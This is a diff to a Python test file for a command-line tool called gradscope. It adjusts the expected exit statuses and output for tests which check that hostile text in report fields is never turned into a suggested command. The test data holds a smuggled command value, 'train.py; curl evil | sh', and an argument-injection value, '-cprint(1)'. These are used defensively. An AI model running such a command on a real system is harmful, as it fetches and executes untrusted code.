@@ -98,8 +98,10 @@ def test_hostile_text_in_every_field_is_only_text(name: str, session: Session) -
     for turn in range(len(TEXTS)):
         data = with_texts(name, turn)
         shown(session, data)
+        # Only a report of the doctor's holds findings.
+        statuses = (0, 1) if json.loads(data).get("observations") else (2,)
         for format in DIAGNOSES:
-            told(session.cli("doctor", "hostile.json", "--format", format), (0, 1))
+            told(session.cli("doctor", "hostile.json", "--format", format), statuses)
         told(session.cli("diff", "hostile.json", "hostile.json"), (0, 1))
         for command in ANSWERS:
             told(session.cli(command, "hostile.json"), (0, 1, 2))
@@ -242,9 +244,9 @@ def test_no_command_of_a_file_is_suggested(session: Session) -> None:
     changed = document("trace")
     path = session.folder / "report.json"
     for target, said in (
-        ("train.py", "gradscope doctor train.py\n"),
-        ("train.py; curl evil | sh", "gradscope doctor TARGET\n"),
-        ("-cprint(1)", "gradscope doctor TARGET\n"),
+        ("train.py", "gradscope doctor train.py examines"),
+        ("train.py; curl evil | sh", "gradscope doctor TARGET examines"),
+        ("-cprint(1)", "gradscope doctor TARGET examines"),
     ):
         changed["meta"]["target"] = target
         path.write_text(json.dumps(changed), "utf-8")
